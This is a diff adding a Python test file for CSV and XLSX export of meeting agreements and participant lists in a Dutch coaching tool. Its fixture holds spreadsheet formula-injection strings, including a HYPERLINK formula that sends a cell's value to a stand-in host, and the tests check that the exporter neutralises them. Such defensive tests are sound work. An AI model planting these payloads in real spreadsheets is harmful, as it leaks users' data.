@@ -1,0 +1,127 @@
+"""The record lists as CSV and XLSX: read back by the csv module and by openpyxl, as the
+spreadsheet the coach opens them in would, with the cells a spreadsheet would run kept text."""
+
+from __future__ import annotations
+
+import csv
+import datetime as dt
+import io
+
+from openpyxl import load_workbook
+
+from tests.export.demo_document import demo_document
+from worksession.domain.interchange import Document
+from worksession.export.csv_table import csv_bytes
+from worksession.export.record_lists import LIST_NAMES, RECORD_LISTS
+from worksession.export.xlsx_workbook import workbook_bytes
+
+# Text a spreadsheet would run as a formula, as a participant's name could be typed or imported.
+HOSTILE = [
+    '=HYPERLINK("https://example.invalid/?"&A1,"klik")',
+    "+31 6 12345678",
+    "-2+3",
+    "@SUM(A1:A9)",
+    "\tverborgen",
+    "\r=1+1",
+]
+
+
+def _hostile_document() -> Document:
+    document = demo_document()
+    for person, name in zip(document["participants"], HOSTILE, strict=False):
+        person["name"] = name
+    document["participants"][-1]["registration"] = "01234567890"  # a BIG number: leading zero
+    return document
+
+
+def _rows(data: bytes) -> list[list[str]]:
+    assert data.startswith(b"\xef\xbb\xbf")  # the BOM a Dutch Excel needs to read UTF-8
+    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline=""), delimiter=";"))
+
+
+def test_the_agreements_csv_is_one_row_per_agreement_in_the_plans_order() -> None:
+    document = demo_document()
+    rows = _rows(csv_bytes(document, "agreements"))
+    header, body = rows[0], rows[1:]
+    assert header == [
+        "Thema", "Nr.", "Soort", "Wat", "Trekker", "Partners", "Wanneer", "Middelen",
+        "Hoe zien we dat het werkt", "Status",
+    ]  # fmt: skip
+    assert len(body) == len(document["agreements"])
+    assert [row[1] for row in body] == [f"A{n}" for n in range(1, len(body) + 1)]
+    first = next(row for row in body if row[3].startswith("Huisarts, POH's"))
+    assert first[0] == "Eenzaamheid" and first[4] == "Marieke Hermans"
+    assert first[5] == "Yvonne Kessels, Wendy Pelzer"
+    assert first[6] == "2026-04-30" and first[9] == "open"
+    dates = [row[6] for row in body if row[0] == "Eenzaamheid"]
+    assert dates == sorted(dates)  # within a theme by date, as the plan numbers them
+
+
+def test_every_list_is_a_csv_with_its_own_header() -> None:
+    document = demo_document()
+    for entry in RECORD_LISTS:
+        rows = _rows(csv_bytes(document, entry.name))
+        assert len(rows[0]) == len(entry.columns)
+        assert all(len(row) == len(entry.columns) for row in rows)
+    assert len(_rows(csv_bytes(document, "participants"))) == len(document["participants"]) + 1
+
+
+def test_csv_cells_that_would_run_as_a_formula_get_an_apostrophe() -> None:
+    rows = _rows(csv_bytes(_hostile_document(), "participants"))
+    names = [row[0] for row in rows[1 : len(HOSTILE) + 1]]
+    assert names == ["'" + name for name in HOSTILE]
+    assert rows[len(HOSTILE) + 1][0] == demo_document()["participants"][len(HOSTILE)]["name"]
+    assert rows[-1][5] == "01234567890"
+
+
+def test_the_workbook_has_a_sheet_per_list_with_a_bold_frozen_header() -> None:
+    book = load_workbook(io.BytesIO(workbook_bytes(demo_document())))
+    assert len(book.sheetnames) == len(LIST_NAMES)
+    assert book.sheetnames[:2] == ["Samenwerkingsafspraken", "Prioriteiten"]
+    for sheet in book.worksheets:
+        assert sheet.freeze_panes == "A2"
+        assert all(cell.font.bold for cell in sheet[1])
+        widths = [dimension.width for dimension in sheet.column_dimensions.values()]
+        assert widths and all(6 <= width <= 60 for width in widths)
+
+
+def test_workbook_dates_are_dates_and_numbers_numbers() -> None:
+    sheet = load_workbook(io.BytesIO(workbook_bytes(demo_document())))["Samenwerkingsafspraken"]
+    header = [cell.value for cell in sheet[1]]
+    due = [row[header.index("Wanneer")] for row in sheet.iter_rows(min_row=2)]
+    assert due and all(cell.is_date for cell in due if cell.value is not None)
+    assert {cell.value.date() for cell in due if cell.value} >= {dt.date(2026, 4, 30)}
+    assert due[0].number_format == "DD-MM-YYYY"
+    themes = load_workbook(io.BytesIO(workbook_bytes(demo_document())))["Prioriteiten"]
+    assert [cell.value for cell in themes["D"][1:4]] == [15, 12, 10]  # votes, as numbers
+
+
+def test_workbook_cells_that_look_like_formulas_are_strings() -> None:
+    book = load_workbook(io.BytesIO(workbook_bytes(_hostile_document())))
+    sheet = book["Deelnemers"]
+    names = sheet["A"][1 : len(HOSTILE) + 1]
+    assert [cell.value for cell in names] == HOSTILE
+    assert all(cell.data_type == "s" for cell in names)
+    assert not [
+        cell.coordinate
+        for sheet in book.worksheets
+        for row in sheet.iter_rows()
+        for cell in row
+        if cell.data_type == "f"
+    ]
+    assert sheet.cell(row=sheet.max_row, column=6).value == "01234567890"
+
+
+def test_a_control_character_an_xlsx_cannot_hold_does_not_stop_the_export() -> None:
+    document = demo_document()
+    document["agreements"][0]["what"] = "Bel\x07 de POH\x00"
+    sheet = load_workbook(io.BytesIO(workbook_bytes(document)))["Samenwerkingsafspraken"]
+    assert "Bel\ufffd de POH\ufffd" in [cell.value for cell in sheet["D"]]
+    assert "Bel\x07 de POH\x00" in csv_bytes(document, "agreements").decode("utf-8-sig")
+
+
+def test_a_document_without_optional_lists_exports_empty_sheets() -> None:
+    document: Document = {"format": "worksession/1", "session": {"title": "Leeg"}}
+    book = load_workbook(io.BytesIO(workbook_bytes(document)))
+    assert all(sheet.max_row == 1 for sheet in book.worksheets)
+    assert _rows(csv_bytes(document, "agreements"))[1:] == []
